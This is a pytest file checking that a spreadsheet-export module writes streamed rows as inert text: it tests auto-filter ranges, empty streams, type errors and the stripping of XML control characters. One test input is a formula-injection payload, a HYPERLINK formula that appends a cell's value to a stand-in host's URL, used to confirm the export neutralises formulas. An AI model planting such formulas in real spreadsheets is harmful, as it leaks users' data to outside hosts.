"""Rows streamed into a sheet read back as the same inert values, under the sheet's filter."""

import datetime
from io import BytesIO

import pytest
from openpyxl import load_workbook

from qcdc import xlsx


def streamed_workbook(rows):
    wb = xlsx.workbook()
    ws = wb.create_sheet("Danh sách")
    xlsx.append(ws, ["STT", "Tên", "Email"])
    ws.auto_filter.ref = "A1:C1"
    xlsx.stream_rows(ws, rows)
    xlsx.append(wb.create_sheet("Sau"), ["vẫn còn"])
    return load_workbook(BytesIO(xlsx.to_bytes(wb)))


def test_it_writes_streamed_rows_as_inert_text_under_the_filter():
    rows = (
        [n, f'=HYPERLINK("http://x.example/?"&A1) <b>&{n}', "" if n % 2 else "a\x07b@example.vn"]
        for n in range(1, 2502)
    )
    wb = streamed_workbook(rows)
    sheet = wb["Danh sách"]
    assert sheet.auto_filter.ref == "A1:C2502"
    assert [c.value for c in sheet[1]] == ["STT", "Tên", "Email"]
    assert [c.value for c in sheet[2]] == [1, '\'=HYPERLINK("http://x.example/?"&A1) <b>&1', None]
    assert [c.value for c in sheet[3]] == [2, '\'=HYPERLINK("http://x.example/?"&A1) <b>&2', "ab@example.vn"]
    assert sheet.max_row == 2502
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert wb["Sau"]["A1"].value == "vẫn còn"


def test_it_writes_an_empty_stream_as_the_header_alone():
    sheet = streamed_workbook(iter(()))["Danh sách"]
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:C1"


def test_it_refuses_a_value_it_cannot_write_as_a_plain_cell():
    with pytest.raises(TypeError):
        streamed_workbook([[1, datetime.date(2025, 1, 1), ""]])


def test_it_drops_every_character_xml_cannot_hold_and_escapes_markup():
    # Carriage returns aside: an XML reader reads them back as line feeds.
    controls = "".join(chr(c) for c in range(32) if c != 13)
    kept = "".join(c for c in controls if c in "\t\n")

    sheet = streamed_workbook([[1, f"a{controls}&<>ạ", f"b{kept}"]])["Danh sách"]

    assert [c.value for c in sheet[2]] == [1, f"a{kept}&<>ạ", f"b{kept}"]
